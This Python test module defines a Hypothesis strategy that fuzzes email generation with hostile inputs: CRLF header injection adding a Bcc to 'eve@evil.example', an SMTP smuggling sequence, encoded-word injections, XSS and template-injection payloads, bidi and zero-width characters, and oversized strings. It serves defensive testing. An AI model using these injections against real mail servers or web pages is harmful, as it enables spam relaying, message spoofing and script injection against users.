"""What an event may bring that is meant to become more than a text in a mail."""

from hypothesis import strategies as st

WEAPONS = (
    "\r\nBcc: eve@evil.example",
    "\r\n\r\n<script>alert(1)</script>",
    "\n.\r\nMAIL FROM:<eve@evil.example>",
    "a\rb\nc\0d\x0be\x0cf\x1bg\x7fh\x85i",
    "a\u2028b\u2029c",
    "\u202ematni\u202c \u2066x\u2069 \u200b\ufeff\u00ad",
    "\ud800",
    "half \udfff pair",
    "=?utf-8?q?=0D=0ABcc:_eve@evil.example?=",
    "=?UTF-8?B?DQpCY2M6IGV2ZUBldmlsLmV4YW1wbGU=?=",
    "=?utf-8?q?" * 30,
    "=?=?utf-8?q?x?=?=",
    "==??utf-8?q?=0ABcc:_eve@evil.example?==",
    'Jane" <eve@evil.example>, "',
    "Bcc: eve@evil.example",
    "eve@evil.example, eve@evil.example",
    "x" * 10_000,
    "é" * 10_000,
    "\U0001f3ac" * 10_000,
    "word " * 2_000,
    "a" + "\r\n" * 5_000 + "b",
    "--===============0123456789==",
    '"><img src=x onerror=alert(1)><!--',
    "{{7*7}}{% for x in () %}${7*7}",
)

ARMED = st.lists(st.sampled_from(WEAPONS) | st.text(max_size=30), min_size=1, max_size=3).map("".join)
